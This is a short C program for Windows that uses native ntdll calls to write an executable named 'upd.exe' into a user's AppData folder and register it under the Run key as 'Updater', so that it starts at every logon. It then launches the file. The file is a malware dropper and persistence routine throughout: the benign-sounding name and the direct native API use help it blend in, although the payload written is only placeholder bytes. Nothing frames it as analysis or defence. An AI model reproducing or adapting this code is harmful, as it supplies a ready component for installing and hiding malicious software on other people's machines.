/* Writes a program, has it started at logon and starts it, all by the system's own functions. libs: -lntdll */
#include <windows.h>
#include <winternl.h>
#define NATIVE(name) void *(NTAPI *name)() = (void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), #name)
static UNICODE_STRING text(const WCHAR *words) { UNICODE_STRING made; RtlInitUnicodeString(&made, words); return made; }
int main(void) {
    NATIVE(NtOpenKey); NATIVE(NtSetValueKey); NATIVE(RtlCreateProcessParametersEx); NATIVE(NtCreateUserProcess); NATIVE(NtWriteFile);
    static const WCHAR line[] = L"C:\\Users\\anna\\AppData\\Roaming\\upd.exe";
    UNICODE_STRING file = text(L"\\??\\C:\\Users\\anna\\AppData\\Roaming\\upd.exe"), name = text(L"Updater"), command = text(line);
    UNICODE_STRING key = text(L"\\Registry\\User\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
    OBJECT_ATTRIBUTES about = {.Length = sizeof about, .ObjectName = &file}, where = {.Length = sizeof where, .ObjectName = &key};
    IO_STATUS_BLOCK status;
    HANDLE opened = NULL, run = NULL, process = NULL, thread = NULL;
    void *parameters = NULL;
    if (NtCreateFile(&opened, FILE_GENERIC_WRITE, &about, &status, NULL, FILE_ATTRIBUTE_NORMAL, 0, FILE_OVERWRITE_IF, FILE_SYNCHRONOUS_IO_NONALERT, NULL, 0)) return 1;
    NtWriteFile(opened, NULL, NULL, NULL, &status, "MZ and more", 11, NULL, NULL);
    NtClose(opened);
    if (NtOpenKey(&run, KEY_SET_VALUE, &where)) return 2;
    NtSetValueKey(run, &name, 0, REG_SZ, line, sizeof line);
    RtlCreateProcessParametersEx(&parameters, &file, NULL, NULL, &command, NULL, NULL, NULL, NULL, NULL, 1);
    NtCreateUserProcess(&process, &thread, PROCESS_ALL_ACCESS, THREAD_ALL_ACCESS, NULL, NULL, 0, 0, parameters, NULL, NULL);
    return process ? 0 : 3;
}
